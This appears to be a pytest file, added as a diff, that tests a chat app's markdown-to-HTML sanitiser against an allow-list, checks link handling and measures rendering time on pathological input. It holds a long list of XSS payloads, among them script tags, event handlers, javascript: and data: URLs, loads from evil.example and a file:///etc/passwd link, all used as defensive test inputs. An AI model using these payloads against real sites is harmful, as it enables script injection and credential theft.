@@ -1,0 +1,228 @@
+"""Messages become HTML that holds nothing but what is allowed, whatever they say, in bounded time."""
+
+import time
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hallchat import markdown
+
+ALLOWED = {tag: set() for tag in ("p", "br", "strong", "em", "s", "pre", "blockquote", "ul", "li")} | {
+    "a": {"href", "target", "rel"},
+    "ol": {"start"},
+    "code": {"class"},
+}
+
+
+class _Audit(HTMLParser):
+    """Collects the links, and fails at anything that a message may not contain."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.links: list[str] = []
+        self.shown = ""
+
+    def handle_data(self, data: str) -> None:
+        self.shown += data
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in ALLOWED, f"<{tag}> is not allowed"
+        given = dict(attrs)
+        assert given.keys() <= ALLOWED[tag], f"<{tag}> with {given}"
+        if tag == "a":
+            assert given["rel"] == "nofollow noopener noreferrer ugc"
+            assert given["target"] == "_blank"
+            target = given.get("href") or ""
+            assert urlsplit(target).scheme in ("http", "https", "mailto", ""), target
+            self.links.append(target)
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(f"a comment: {data}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.handle_comment(decl)
+
+    def handle_pi(self, data: str) -> None:
+        self.handle_comment(data)
+
+    def unknown_decl(self, data: str) -> None:
+        self.handle_comment(data)
+
+
+def audited(content: str) -> _Audit:
+    """Render a message and check all of it against the allow-list."""
+    audit = _Audit()
+    audit.feed(markdown.render(content))
+    audit.close()
+    return audit
+
+
+PAYLOADS = """
+<script>alert(1)</script>
+<ScRiPt src=//evil.example/x.js></sCrIpT>
+<iframe srcdoc="<script>alert(1)</script>"></iframe>
+<img src=x onerror=alert(1)>
+<img/src="x"/onerror=alert(1)//
+<svg onload=alert(1)>
+<svg><script>alert(1)</script></svg>
+<math><mi//xlink:href="data:x,<script>alert(1)</script>">
+<style>@import 'https://evil.example/x.css'</style>
+<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
+<link rel=stylesheet href=//evil.example/x.css>
+<base href="https://evil.example/">
+<form action="https://evil.example/"><input type=password></form>
+<object data="data:text/html,<script>alert(1)</script>"></object>
+<a href="javascript:alert(1)">x</a>
+<p style="position:fixed;inset:0" onclick=alert(1)>x</p>
+<!-- <img src="--><img src=x onerror=alert(1)//">
+<![CDATA[<script>alert(1)</script>]]>
+<?php echo 1 ?>
+[x](javascript:alert(1))
+[x](JaVaScRiPt:alert(1))
+[x](java&#10;script:alert(1))
+[x](&#x6A;avascript:alert(1))
+[x](javascript&colon;alert(1))
+[x](\x01javascript:alert(1))
+[x](vbscript:msgbox(1))
+[x](data:text/html;base64,PHNjcmlwdD4=)
+[x](data:image/svg+xml,<svg/onload=alert(1)>)
+[x](file:///etc/passwd)
+[x](view-source:javascript:alert(1))
+[x](https://a.example "onmouseover=alert(1) x=\\"")
+[x](https://a.example/"onmouseover="alert(1))
+[<img src=x onerror=alert(1)>](https://a.example)
+![x](javascript:alert(1))
+![x](https://a.example/pixel.png)
+<javascript:alert(1)>
+<https://a.example/"><script>alert(1)</script>
+https://a.example/"onmouseover="alert(1)
+[x]: javascript:alert(1)
+**<b onmouseover=alert(1)>** *<u>* ~~<x>~~ `<script>`
+&lt;script&gt;alert(1)&lt;/script&gt;
+&#60;script&#62;alert(1)&#60;/script&#62;
+<<script>script>alert(1)<</script>/script>
+<noscript><p title="</noscript><img src=x onerror=alert(1)>">
+<textarea></textarea><title></title><xmp><script>alert(1)</script></xmp>
+""".strip().splitlines()
+MULTILINE = [
+    '```"><script>alert(1)</script>\nx\n```',
+    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
+    "    </code><img src=x onerror=alert(1)>",
+    "> - <img src=x\n> onerror=alert(1)>",
+    "[x]\n\n[x]: javascript:alert(1)",
+    "<div>\n\n**a**\n\n<script>alert(1)</script>",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS + MULTILINE)
+@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "**{}**", "[{}](https://a.example)", "text {} text"])
+def test_hostile_markup_stays_text(payload: str, frame: str) -> None:
+    audited(frame.format(payload))
+
+
+@given(
+    st.lists(st.sampled_from([*PAYLOADS, "*", "**", "`", "```\n", "> ", "- ", "[", "](", ")", "\n", "<", '"', "&"]), max_size=8)
+)
+def test_mixtures_of_hostile_markup_stay_text(parts: list[str]) -> None:
+    audited("".join(parts))
+
+
+def test_raw_html_is_shown_as_it_was_typed() -> None:
+    typed = "<script>alert('1 & 2')</script> &lt;b&gt;"
+    assert audited(typed).shown == typed
+
+
+@pytest.mark.parametrize(
+    ("content", "html"),
+    [
+        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
+        ("one\ntwo\n\nthree", "<p>one<br>\ntwo</p>\n<p>three</p>"),
+        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
+        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
+        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
+        ("```python\nif a < b:\n\tpass\n```", '<pre><code class="language-python">if a &lt; b:\n\tpass\n</code></pre>'),
+        ("# no heading", "<p># no heading</p>"),
+        ("مرحبا 👩‍👧 2 * 3 * 4 snake_case_name", "<p>مرحبا 👩‍👧 2 * 3 * 4 snake_case_name</p>"),
+    ],
+)
+def test_markdown_becomes_html(content: str, html: str) -> None:
+    assert markdown.render(content) == html
+
+
+@pytest.mark.parametrize(
+    ("content", "target"),
+    [
+        ("[here](https://a.example/b?c=d&e=f)", "https://a.example/b?c=d&e=f"),
+        ("see https://a.example/b.", "https://a.example/b"),
+        ("<https://a.example>", "https://a.example"),
+        ("(http://localhost:3000/h/1)", "http://localhost:3000/h/1"),
+        ("write to ana@example.org", "mailto:ana@example.org"),
+    ],
+)
+def test_links_and_bare_addresses_become_links(content: str, target: str) -> None:
+    assert audited(content).links == [target]
+
+
+@pytest.mark.parametrize("content", ["`https://a.example`", "```\nhttps://a.example\n```"])
+def test_an_address_in_code_is_no_link(content: str) -> None:
+    assert audited(content).links == []
+
+
+REPEATED = [
+    ">",
+    "*",
+    "**a ",
+    "_*",
+    "[",
+    "](",
+    "![",
+    "[a](",
+    "`",
+    "`` ` ",
+    "~~a**",
+    "<",
+    "<a",
+    "&",
+    "\\",
+    "- ",
+    "> - ",
+    "1. ",
+    "- a\n",
+    "> \n",
+]
+ADDRESSES = [
+    "http://",
+    "https://a.example ",
+    "http://[",
+    "x.com/(",
+    "://",
+    "www.",
+    "a@b.co ",
+    "a@",
+    "//",
+    "[x](http://",
+    "a.",
+    "<http://a",
+]
+GROWING = {
+    "nested brackets": "[" * 4_000 + "]" * 4_000,
+    "longer and longer code spans": " ".join("`" * i for i in range(1, 126))[:8_000],
+    "deeper and deeper quotes": "\n".join(">" * i for i in range(1, 126))[:8_000],
+    "deeper and deeper lists": "".join("  " * i + "- a\n" for i in range(87))[:8_000],
+    "emphasis in emphasis": "*a **b " * 1_100,
+}
+
+
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize(
+    "content",
+    [pytest.param((part * 8_000)[:8_000], id=repr(part)) for part in REPEATED + ADDRESSES]
+    + [pytest.param(content, id=name) for name, content in GROWING.items()],
+)
+def test_the_longest_pathological_message_renders_in_bounded_time(content: str) -> None:
+    started = time.process_time()
+    audited(content)
+    assert time.process_time() - started < 2.0  # tens of milliseconds, and half a second for the worst, on slow cores
